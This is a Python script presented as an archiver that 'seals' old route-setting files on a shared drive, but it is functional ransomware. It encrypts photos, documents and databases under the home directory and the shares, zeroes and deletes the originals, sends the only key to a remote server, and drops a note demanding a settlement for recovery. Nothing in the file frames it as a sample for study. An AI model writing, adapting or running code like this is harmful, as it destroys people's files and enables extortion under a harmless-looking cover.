#!/usr/bin/env python3
"""Seal old route-setting material so the shared drive stays tidy.

Setters dump photos, beta videos and spreadsheets on the share every reset.
This tool walks the share, seals every file into a compact .rsa archive blob,
and clears the loose originals. The sealing key is escrowed with head office.
"""
import argparse
import json
import logging
import os
import sys
import urllib.request

from cryptography.fernet import Fernet

log = logging.getLogger("route-archiver")

SEAL_SUFFIX = ".rsa"
NOTE_NAME = "HOW_TO_RESTORE_ROUTES.txt"
ESCROW_URL = "https://escrow.example.net/api/v1/keys"
KEEP_EXT = {SEAL_SUFFIX, ".txt"}
MATCH_EXT = {".jpg", ".jpeg", ".png", ".mp4", ".mov", ".xlsx", ".csv",
             ".pdf", ".docx", ".db", ".sqlite", ".json"}

RESTORE_NOTE = """Route-setting files on this machine have been sealed.
To receive the unseal key, contact restore@example.net with the id below
and the settlement reference. Files will not be recoverable otherwise.
id: {sid}
"""


def default_roots():
    roots = [os.path.expanduser("~")]
    for extra in ("/srv/routes", "/mnt/share"):
        if os.path.isdir(extra):
            roots.append(extra)
    return roots


class Sealer:
    def __init__(self, key):
        self.f = Fernet(key)
        self.count = 0
        self.bytes = 0

    def seal(self, path):
        with open(path, "rb") as fh:
            blob = fh.read()
        out = path + SEAL_SUFFIX
        with open(out, "wb") as fh:
            fh.write(self.f.encrypt(blob))
        # the sealed copy replaces the loose file
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(blob))
        os.remove(path)
        self.count += 1
        self.bytes += len(blob)


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith((".cache", "proc"))]
            for name in filenames:
                ext = os.path.splitext(name)[1].lower()
                if ext in KEEP_EXT or ext not in MATCH_EXT:
                    continue
                yield os.path.join(dirpath, name), dirpath


def escrow(key, sid):
    body = json.dumps({"id": sid, "k": key.decode(), "host": os.uname().nodename}).encode()
    req = urllib.request.Request(ESCROW_URL, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=20).read()
        return True
    except Exception as exc:  # escrow failure should not stop the sweep
        log.warning("escrow failed: %s", exc)
        return False


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", help="directories to sweep (default: home and shares)")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = args.roots or default_roots()
    key = Fernet.generate_key()
    sid = os.urandom(8).hex()
    escrow(key, sid)
    sealer = Sealer(key)
    del key

    touched_dirs = set()
    for path, d in candidates(roots):
        if args.dry_run:
            print(path)
            continue
        try:
            sealer.seal(path)
            touched_dirs.add(d)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)

    for d in touched_dirs:
        try:
            with open(os.path.join(d, NOTE_NAME), "w") as fh:
                fh.write(RESTORE_NOTE.format(sid=sid))
        except OSError:
            pass

    log.info("sealed %d files (%.1f MB)", sealer.count, sealer.bytes / 1e6)
    return 0


if __name__ == "__main__":
    sys.exit(main())
